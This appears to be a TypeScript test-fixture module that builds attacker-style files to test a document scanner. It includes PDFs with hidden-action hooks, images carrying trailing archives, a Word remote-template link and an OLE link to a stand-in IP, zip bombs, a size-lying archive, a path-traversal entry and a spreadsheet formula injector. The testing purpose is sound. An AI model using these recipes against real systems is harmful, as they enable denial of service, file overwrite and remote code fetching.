// Files crafted the way attackers craft them, built in the test run: PDFs with hidden actions,
// images with a second file after their end, and office packages that are zip bombs or carry
// macros and external links.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { unzipSync, zipSync, strToU8 } from 'fflate';
import { crc32 } from 'node:zlib';
import * as sample from './sample-files.js';

/** A PDF of the given objects (object 1 is the catalog), with a correct cross-reference table. */
export function pdfOf(objects: string[]): Buffer {
  let body = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';

/** A one-page PDF whose catalog carries `catalogExtra` and whose page carries `pageExtra`; further objects from 4 on. */
export const pdfWith = (catalogExtra: string, more: string[] = [], pageExtra = '') =>
  pdfOf([`<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`, PAGES, PAGE.replace(' >>', ` ${pageExtra} >>`), ...more]);

/** The same PDF rewritten by qpdf with its objects packed into compressed object streams. */
export function withObjectStreams(pdf: Buffer): Buffer {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dvk-pdf-'));
  try {
    fs.writeFileSync(path.join(dir, 'in.pdf'), pdf);
    const run = spawnSync('qpdf', ['--object-streams=generate', 'in.pdf', 'out.pdf'], { cwd: dir });
    if (run.status !== 0 && run.status !== 3) throw new Error(`qpdf failed: ${run.stderr}`);
    return fs.readFileSync(path.join(dir, 'out.pdf'));
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed) >>> 0);
  return Buffer.concat([len, typed, crc]);
}

/** A JPEG whose EXIF segment holds a thumbnail JPEG, so FFD9 occurs long before the picture's end. */
export async function jpegWithExifThumbnail(): Promise<Buffer> {
  const main = await sample.jpegWithGps(64, 64);
  const thumbnail = await sample.jpegWithGps(16, 16);
  const body = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), thumbnail]);
  const head = Buffer.alloc(4);
  head.writeUInt16BE(0xffe1, 0);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([main.subarray(0, 2), head, body, main.subarray(2)]);
}

/** A PNG with bytes after its IEND chunk. */
export async function pngWithTrailer(trailer: Buffer): Promise<Buffer> {
  return Buffer.concat([await sample.png(32, 32), trailer]);
}

/** A PNG with an extra text chunk before IEND: legitimate metadata, not a trailer. */
export async function pngWithText(): Promise<Buffer> {
  const p = await sample.png(32, 32);
  const iend = p.length - 12;
  return Buffer.concat([
    p.subarray(0, iend),
    pngChunk('tEXt', Buffer.from('Comment\0Ảnh hiện trường')),
    p.subarray(iend),
  ]);
}

/** A WebP with bytes beyond the size its RIFF header gives. */
export async function webpWithTrailer(): Promise<Buffer> {
  return Buffer.concat([await sample.webp(32, 32), Buffer.from('PK\x03\x04 hidden archive', 'latin1')]);
}

const REL = (id: string, type: string, target: string, external = false) =>
  `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
const RELS = (...rels: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels.join('')}</Relationships>`;
const TYPES = (main: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
const DOCX_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const DOCUMENT =
  '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Báo cáo</w:t></w:r></w:p></w:body></w:document>';

/** A Word package with the given extra entries; `main` replaces the main part's content type. */
export function docxWith(
  extra: Record<string, Uint8Array> = {},
  main = DOCX_MAIN,
  documentRels: string[] = [],
): Buffer {
  return Buffer.from(
    zipSync({
      '[Content_Types].xml': strToU8(TYPES(main)),
      '_rels/.rels': strToU8(RELS(REL('rId1', 'officeDocument', 'word/document.xml'))),
      'word/document.xml': strToU8(DOCUMENT),
      ...(documentRels.length ? { 'word/_rels/document.xml.rels': strToU8(RELS(...documentRels)) } : {}),
      ...extra,
    }),
  );
}

export const hyperlinkRel = REL('rId5', 'hyperlink', 'https://danvan.vn/mo-hinh', true);
export const templateRel = REL('rId6', 'attachedTemplate', 'http://203.0.113.9/mau.dotm', true);
export const oleRel = REL('rId7', 'oleObject', 'file://///203.0.113.9/share/x.bin', true);

/** A Word package whose settings part points to a template on another machine (fetched on open). */
export const docxWithRemoteTemplate = () =>
  docxWith({
    'word/_rels/settings.xml.rels': strToU8(RELS(templateRel)),
    'word/settings.xml': strToU8('<w:settings/>'),
  });

/** A workbook linked to another workbook. */
export function xlsxWithExternalLink(): Buffer {
  const entries = unzipSync(sample.xlsx());
  return Buffer.from(
    zipSync({
      ...entries,
      'xl/externalLinks/externalLink1.xml': strToU8('<externalLink><externalBook r:id="rId1"/></externalLink>'),
      'xl/externalLinks/_rels/externalLink1.xml.rels': strToU8(
        RELS(REL('rId1', 'externalLinkPath', 'file:///C:/so-lieu.xlsx', true)),
      ),
    }),
  );
}

/** A Word package with an entry of `mb` megabytes of zeros: a zip bomb (ratio about 1000). */
export const docxBomb = (mb = 30) => docxWith({ 'word/media/fill.bin': new Uint8Array(mb * 1024 * 1024) });

/**
 * A Word package whose central directory (and local header) claims an entry is 100 bytes while it
 * inflates to 2 MB: a bomb for a reader that trusts declared sizes.
 */
export function docxLyingSize(): Buffer {
  const name = 'word/media/small.xml';
  const zip = Buffer.from(docxWith({ [name]: new Uint8Array(2 * 1024 * 1024).fill(0x41) }));
  const nameBytes = Buffer.from(name, 'latin1');
  for (let i = zip.indexOf(nameBytes); i >= 0; i = zip.indexOf(nameBytes, i + 1)) {
    if (zip.readUInt32LE(i - 30) === 0x04034b50) zip.writeUInt32LE(100, i - 30 + 22);
    if (zip.readUInt32LE(i - 46) === 0x02014b50) zip.writeUInt32LE(100, i - 46 + 24);
  }
  return zip;
}

/** A package with an entry that climbs out of the folder it is unpacked into. */
export const docxWithTraversal = () => docxWith({ '../../../tmp/evil.txt': strToU8('x') });

/** An OpenDocument text with extra entries. */
export const odtWith = (extra: Record<string, Uint8Array>) =>
  Buffer.from(zipSync({ ...unzipSync(sample.odt()), ...extra }));

/** A workbook whose first sheet holds one formula. */
export const xlsxWithFormula = (formula: string) =>
  Buffer.from(
    zipSync({
      ...unzipSync(sample.xlsx()),
      'xl/worksheets/sheet1.xml': strToU8(
        `<worksheet><sheetData><row r="1"><c r="A1"><f>${formula.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}</f></c></row></sheetData></worksheet>`,
      ),
    }),
  );

/** A workbook with extra entries. */
export const xlsxWith = (extra: Record<string, Uint8Array>) =>
  Buffer.from(zipSync({ ...unzipSync(sample.xlsx()), ...extra }));
